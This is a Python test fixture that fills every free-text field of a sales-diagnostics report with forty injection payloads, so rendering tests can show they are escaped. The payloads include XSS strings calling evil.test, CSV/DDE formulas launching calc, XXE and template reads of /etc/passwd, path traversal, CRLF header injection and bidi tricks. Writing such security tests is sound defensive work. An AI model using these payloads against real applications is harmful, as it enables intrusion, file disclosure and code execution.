"""Texts that would like to run: forty of them, and documents made of nothing else.

Every payload that can run in a page sets `window.__pwned` or asks for an address under
`evil.test`, so that a browser shows whether it ran. `twin` is a harmless text of the
same shape: a page with payloads must have the tags of the page with their twins.
"""

import unicodedata
from collections.abc import Callable, Iterator
from typing import Any, get_args, get_origin

import render_fixture as made
from pydantic import BaseModel

from salesdx.language import Text
from salesdx.render.clean import plain
from salesdx.result import (
    BreakBy,
    Change,
    Check,
    ClaimedLoss,
    Explainer,
    FactValue,
    FunnelRule,
    Input,
    Layer,
    LeftOut,
    Loss,
    LossPart,
    LostClients,
    MeetingRow,
    PastAction,
    PlanEdit,
    ResultDocument,
    SaidBy,
    StageRule,
    Subject,
    Tuned,
)

RUN = "window.__pwned=1"
PAYLOADS: tuple[str, ...] = (
    f"<script>{RUN}</script>",
    f"<ScRiPt/x src=//evil.test/a.js>{RUN}</sCrIpT >",
    f"</script><script>{RUN}</script>",
    f"</title></style></textarea></noscript><script>{RUN}</script>",
    f'"><img src=x onerror="{RUN}">',
    f"'><img src=https://evil.test/a.png onload='{RUN}'>",
    f'" autofocus onfocus="{RUN}" tabindex=1 x="',
    f"' onmouseover='{RUN}' style='position:fixed;inset:0' x='",
    f"x` onclick={RUN} `",
    f"<svg/onload={RUN}>",
    f"]]></title></desc></svg><svg><script>{RUN}</script>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN[7:]}</script>'></iframe>",
    f"<details open ontoggle={RUN}><summary>x</summary></details>",
    "<meta http-equiv=refresh content='0;url=https://evil.test/'>",
    "<base href=https://evil.test/><link rel=stylesheet href=//evil.test/a.css>",
    f"javascript:{RUN}",
    f"jAvA\tscript:{RUN}//",
    f"data:text/html,<script>{RUN}</script>",
    f"[click](javascript:{RUN}) ![x](https://evil.test/a.png) <https://evil.test>",
    f"| a | b |\n|---|---|\n| <b onclick={RUN}>x</b> | `y` |\n\n# head\n- [ ] item",
    "{{7*7}} {% for x in range(3) %}x{% endfor %} {{ ''.__class__.__mro__ }} {name}",
    '#read("/etc/passwd") #import "@preview/a:0.1.0" #link("https://evil.test")[x] $x$',
    '"); #eval("1+1") #image("/etc/hostname") // *b* _i_ `r` @ref <label>',
    "=HYPERLINK(\"https://evil.test/\"&A1,\"x\")",
    "+1+cmd|'/c calc'!A0",
    "-2+3+cmd|'/c calc'!A0",
    "@SUM(1+1)*cmd|'/c calc'!A0",
    "\t=1+1",
    "\r=1+1\n;=2+2",
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;',
    "<![CDATA[<w:fldSimple w:instr='DDEAUTO calc'/>]]>]]>&lt;script&gt;&#60;b&#62;",
    "</w:t></w:r><w:r><w:instrText>INCLUDETEXT /etc/passwd</w:instrText></w:r>",
    ")/OpenAction<</S/JavaScript/JS(app.alert(1))>>/AA<</O(",
    "\u202efdp.exe\u2066\u200b\u200d\ufeffzero\u0301\u0301\u0301",
    "a\x00b\x07c\x1b[31mred\x1b]0;title\x07\x9b2J\x7f",
    "</style><style>*{background:url(https://evil.test/a.css);x:expression(alert(1))}",
    "../../../../etc/passwd\\..\\..\\CON.csv%2e%2e%2f",
    "a\r\nSet-Cookie: pwned=1\r\n\r\n<script>parent.__pwned=1</script>",
    f"\u2028{RUN}\u2029//--><!--><img src=x onerror={RUN}>\ufffe",
)  # fmt: skip
LONG_WORD = "Щ" * 5_000 + "W" * 5_000
SURROGATE = "a\ud800b"  # no text at all: whoever reads or takes it refuses it
# what names a thing of ours or of a closed list: no text that comes from a case
_CODES = """
    id ref metric question rule group kind unit currency as_of from_ to period at
    before_of after_of languages sales_model schema_ hash grade causes remedies
    explains leads_to aggravates rivals top_causes first_actions after worksheet
    dimension cells alike per start due done until change pack version executor
    meanings owner area reasons explained_by repeat role layer table facts
    problems in_order not_known
"""
CODES = frozenset(_CODES.split())
TEXTS = frozenset({("StageRule", "id"), ("FunnelRule", "id"), ("PlanEdit", "owner"),
                   ("Layer", "id"), ("Layer", "version"),
                   ("Tuned", "layer")})  # fmt: skip
CARRIED = frozenset({("CauseRow", "losses"), ("MeetingRow", "finding")})


def twin(text: str) -> str:
    """A harmless text: as long, as wide in a chart, with the same blanks."""
    return "".join(map(_tame, plain(text)))


def _tame(char: str) -> str:
    if char.isalnum() or char.isspace():
        return char
    if char in ".,:;|!'()[]":
        return "i"
    if char in "@%—…":
        return "m"
    return "о" if unicodedata.category(char)[0] != "M" else "e"


class Speech:
    """Gives every text a payload of its own, the same text always the same one.

    `turn` says with which payload to begin; `at_once` how many a text holds.
    """

    def __init__(self, turn: int, at_once: int, *, tame: bool = False) -> None:
        self.turn, self.at_once, self.tame = turn, at_once, tame
        self._said: dict[str, str] = {}

    def __call__(self, text: str) -> str:
        if text not in self._said:
            place = len(self._said)
            chosen = [
                PAYLOADS[(self.turn + place + i) % len(PAYLOADS)]
                for i in range(self.at_once)
            ]
            # the glossary explains a script wherever there is one: in both of a pair
            said = f"{' '.join(chosen)} script {place}"
            self._said[text] = twin(said) if self.tame else said
        return self._said[text]


def spoken(part: BaseModel, say: Callable[[str], str]) -> Any:
    """A part of a document in which every text that is no code is said anew."""
    if isinstance(part, Text):
        return Text(en=say(part.en), ru=say(part.ru))
    kind = type(part)
    changes = {}
    for name, field in kind.model_fields.items():
        value = getattr(part, name)
        if (kind.__name__, name) in CARRIED or (kind, name) == (Loss, "id"):
            changes[name] = _carried(value, say)
        elif not _is_code(kind.__name__, name):
            changes[name] = _value(value, field.annotation, say)
        elif not isinstance(value, str):
            changes[name] = _value(value, field.annotation, say, code=True)
    return part.model_copy(update=changes)


def _carried(value: Any, say: Callable[[str], str]) -> Any:
    """The id of a loss: it holds the names of its slice."""
    if isinstance(value, list):
        return [_carried(v, say) for v in value]
    return f"{value.partition('@')[0]}@{say(value)}"


def _value(
    value: Any, annotation: Any, say: Callable[[str], str], code: bool = False
) -> Any:  # fmt: skip
    if isinstance(value, BaseModel):
        return spoken(value, say)
    if isinstance(value, list | tuple):
        inner = next(iter(get_args(annotation)), Any)
        return type(value)(_value(v, inner, say, code) for v in value)
    if isinstance(value, dict):
        return {k: _value(v, Any, say, code) for k, v in value.items()}
    if isinstance(value, str) and not code and not _closed(annotation):
        return say(value) if value else value
    return value


def texts(part: Any, place: str = "", code: bool = False) -> Iterator[tuple[str, str]]:
    """Every text of a document that is no code, with the field where it stands."""
    if isinstance(part, Text):
        yield place, part.en
    elif isinstance(part, BaseModel):
        kind = type(part).__name__
        for name, field in type(part).model_fields.items():
            closed = _is_code(kind, name) or _closed(field.annotation)
            yield from texts(getattr(part, name), f"{kind}.{name}", closed)
    elif isinstance(part, list | tuple):
        for value in part:
            yield from texts(value, place, code)
    elif isinstance(part, dict):
        yield from texts([*part.values()], place, code)
    elif isinstance(part, str) and part and not code:
        yield place, part


def declared(kind: type[BaseModel]) -> set[str]:
    """The fields of a model, and of its parts, that may hold a text that is no code."""
    found, waiting, known = set(), [kind], {kind, Text}
    while waiting:
        model = waiting.pop()
        for name, field in model.model_fields.items():
            inner = _flat(field.annotation)
            parts = [a for a in inner if isinstance(a, type) and a not in known]
            waiting += (new := [a for a in parts if issubclass(a, BaseModel)])
            known.update(new)
            if {str, Any, Text} & set(inner) and not _is_code(model.__name__, name):
                found.add(f"{model.__name__}.{name}")
    return found


def _flat(annotation: Any) -> list[Any]:
    inner = get_args(annotation)
    return [a for i in inner for a in _flat(i)] if inner else [annotation]


def _is_code(kind: str, name: str) -> bool:
    return name in CODES and (kind, name) not in TEXTS


def _closed(annotation: Any) -> bool:
    """Whether only certain words fit."""
    return "Literal" in str(get_origin(annotation) or "")


def full() -> ResultDocument:
    """The rich document with every part that it leaves out, and less of each."""
    base, said = made.rich(), made.both("said", "сказано")
    kinds = {(*x.slice, x.state): x for x in base.losses}
    base = base.model_copy(
        update={"losses": [*kinds.values()], "metrics": base.metrics[-8:]}
    )
    tuned = Tuned(
        layer="own", kind="rule", id="slow-reply/a", title=said, change="weight",
        was="strong", now="slight", why=said, text=made.both("text", "текст"),
    )  # fmt: skip
    edit = PlanEdit(owner="Anna", start="2026-07-01", due="2026-08-01", note="a note",
                    dropped="why not", state="overdue")  # fmt: skip
    rule = FunnelRule(
        id="main", title="Main", kind="new", entry="a call", main_stage="proposal",
        cycle_days=30, stages=[StageRule(id="new", title="New", reference_days=3,
                                         turning_point=True, criterion="agreed")],
    )  # fmt: skip
    seen = [x for x in base.losses if x.state in ("confirmed", "suspected")]
    shown = made.both("Price", "Цена")
    claim = {"id": "a", "ref": ["R"], "text": said, "base": shown, "grade": "CL",
             "source": {"title": "A book"}, "causes": ["slow-reply"], "title": shown,
             "mistake": "likely", "low": 0.2, "high": 0.3, "revenue": 1e6,
             "said_by": "owner", "money_low": 2e5, "money_high": 3e5}  # fmt: skip
    notes = [
        MeetingRow(
            finding=x.id, metric=x.metric, title=x.title, slice=x.slice, listed=True,
            by="head", why=f"why {x.id}", reasons=["price"], reasons_shown=shown,
            explained_by=["season"], explained_shown=said, what=f"what {x.id}",
            who=f"who {x.id}", until="2026-08-01",
        )
        for x in seen[:3]
    ]  # fmt: skip
    broken = base.breaks[0].model_copy(
        update={"counting": said, "by": [BreakBy(
            dimension="manager", because="rate", surprise=1, rate=0.1, mix=0.0,
            values=[Explainer(value=made.MANAGERS[0], share=1.0)])],
            "slice": {"segment": made.SEGMENTS[0]}}
    )  # fmt: skip
    losses = [
        x.model_copy(update={
            "norm_of": said, "excluded": [made.MANAGERS[1]], "measure": shown,
            "left_out": [LeftOut(value=made.MANAGERS[2], reason="novice")],
            "left_out_count": 1, "reached_by": [{"manager": made.MANAGERS[3]}],
            "area": "speed", "area_title": said, "formula": shown,
            "inputs": [Input(name=said, value=2.0, unit="count")],
            "parts": [LossPart(metric=x.metric, slice=x.slice, own=1.0, norm=2.0,
                               money=3.0)], "below_average": True,
        }) if i % 2 else x
        for i, x in enumerate(base.losses)
    ]  # fmt: skip
    answers = [
        base.answers[0].model_copy(update={
            "value": "in own words", "reason": "a reason", "evidence": ["a file"],
            "role": shown, "name": "Anna", "inactive": True,
            "about": {"manager": made.MANAGERS[0]}, "note": "a note"}),
        base.answers[1].model_copy(update={"value": ["a"], "shown": shown}),
        *base.answers[2:],
    ]  # fmt: skip
    first = base.causes[0]
    line = first.evidence[0].model_copy(update={"tuned": [tuned], "facts": {
        "x": FactValue(value="said so", by="owner", shown=shown)}})  # fmt: skip
    cause = first.model_copy(update={
        "evidence": [line, *first.evidence[1:]], "losses": [x.id for x in seen[:3]],
        "slice": {"product": "Tea"},
        "checks": [Check(kind="gate", state="unknown", text=said)]})  # fmt: skip
    differ = base.disagreements[0].model_copy(update={
        "question": "q.a", "about": {"stage": "proposal"}, "values": [
            SaidBy(by="owner", value="so", role=shown, name="Anna", unit=None),
            SaidBy(by="head", value=["a"], shown=said)]})  # fmt: skip
    quality = base.data_quality[0].model_copy(update={"table": "deals"})
    symptom = base.symptoms[0].model_copy(update={"slice": {"source": "Site"}})
    figure = base.metrics[0].model_copy(update={"said_by": "owner", "reason": said,
                                                "period": "2025-01"})  # fmt: skip
    return base.model_copy(update={
        "case": base.case.model_copy(update={
            "funnels": [rule], "funnels_mark": "mark"}),
        "knowledge": base.knowledge.model_copy(update={
            "layers": [Layer(id="own", version="1", hash="00")], "tuned": [tuned],
            "overlays": ["own"]}),
        "causes": [cause, *base.causes[1:]], "losses": losses, "breaks": [broken],
        "changes": [Change(
            metric="conversion.mature", kind="department", before_of="others",
            after_of="first", before=0.1, after=0.2, before_counts=(1, 10),
            after_counts=(2, 10), rate=0.1, mix=0.0, cells=["segment"], certain=True)],
        "symptoms": [*base.symptoms, symptom],
        "meeting": notes, "answers": answers, "metrics": [*base.metrics, figure],
        "disagreements": [*base.disagreements, differ],
        "data_quality": [*base.data_quality, quality],
        "plan": [a.model_copy(update={"edit": edit}) for a in base.plan],
        "past_actions": [PastAction(id="old", title=said, edit=edit)],
        "subjects": [Subject(
            id="crm", title=said, questions=5, problems=["a"], in_order=["b", "c"],
            not_known=["d"], state="judged")],
        "claimed_losses": [ClaimedLoss.model_validate(claim)],
        "lost_clients": LostClients(
            clients=3, clients_by="owner", profit=1e6, profit_by="owner", ratio=5,
            winning_measured=False, winning=2e5, keeping_cost=1e4, cost_by="head",
            text=said, ref=["R"]),
    })  # fmt: skip
